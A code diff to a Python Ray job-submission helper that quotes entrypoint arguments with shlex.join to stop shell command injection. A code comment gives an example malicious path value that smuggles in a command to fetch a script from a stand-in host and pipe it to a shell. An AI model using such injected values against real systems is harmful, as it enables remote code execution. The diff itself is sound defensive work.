@@ -20,6 +20,7 @@ import hashlib
 import io
 import json
 import os
+import shlex
 import shutil
 import subprocess
 import sys
@@ -154,7 +155,9 @@ def submission(*, run_id: str, checkpoint_dir: str, step: int | None, working_di
     if verl_dir:
         args += ["--verl-dir", verl_dir]
     kwargs: dict = {
-        "entrypoint": " ".join(args),
+        # Ray runs the entrypoint with a shell: each argument quoted, so a path from an outputs file
+        # (`gs://b/x;curl evil|sh;#`) stays a path.
+        "entrypoint": shlex.join(args),
         "submission_id": f"{SUBMISSION_PREFIX}{run_id}-{'final' if step is None else f'step-{step}'}",
         "runtime_env": {"working_dir": working_dir},
         "metadata": {"verl_gke_export": target},
